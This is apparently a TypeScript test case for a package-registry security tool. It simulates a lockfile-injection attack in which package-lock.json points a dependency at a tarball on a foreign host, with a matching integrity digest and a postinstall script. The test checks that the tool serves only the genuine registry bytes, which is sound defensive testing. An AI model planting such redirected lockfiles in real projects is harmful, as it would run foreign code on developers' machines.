import { createHash } from 'node:crypto';
import { makeNpmTarball } from '../../verify/archives.ts';
import type { Row } from '../row.ts';

// The row's own prefix is the package's name: so the address on the other host has the form of a registry's.
const NAME = 'rp35';

export const row: Row = {
  id: 'RP35',
  title: 'a lockfile in a pull request names another host, and the digest of what lies there',
  happened: 'lockfile injection 2019 and since',
  controls: ['C11'],
  clients: ['npm-11'],
  open: 'it is the setting `replace-registry-host=always`, which sallyport prints for npm, that brings the request here. Without it npm asks the other host, and what stops it is the sandbox, which has no other way out; `sallyport check` refuses the lockfile before it is merged.',
  policy: `
allow:
  - { npm: ${NAME} }
`,
  stage({ registry, foreign, mark }) {
    registry.addNpm(NAME, { '1.0.0': {} });
    const scripts = { postinstall: mark.shell };
    foreign.put(`/-/${NAME}-1.0.0.tgz`, makeNpmTarball({ name: NAME, version: '1.0.0', scripts }));
  },
  async attack(victim, { foreign, mark }) {
    const scripts = { postinstall: mark.shell };
    const other = makeNpmTarball({ name: NAME, version: '1.0.0', scripts });
    const dependencies = { [NAME]: '1.0.0' };
    const project = { name: 'project', version: '1.0.0', dependencies };
    const integrity = `sha512-${createHash('sha512').update(other).digest('base64')}`;
    const resolved = `${foreign.url}/-/${NAME}-1.0.0.tgz`;
    const packages = {
      '': project,
      [`node_modules/${NAME}`]: { version: '1.0.0', resolved, integrity, hasInstallScript: true },
    };
    await victim.write('package.json', JSON.stringify(project));
    await victim.write('package-lock.json', JSON.stringify({ ...project, lockfileVersion: 3, packages }));
    await victim.npm('ci');
  },
  // The gate serves the true bytes, which are not those of the lockfile: npm takes neither.
  refused: null,
  untouched: 'foreign',
  async probe(gate, { registry }) {
    const { body } = await gate.served(gate.tarball(NAME, '1.0.0'));
    if (!body.equals(registry.tarball(NAME, '1.0.0'))) throw new Error("another host's bytes are served");
  },
};
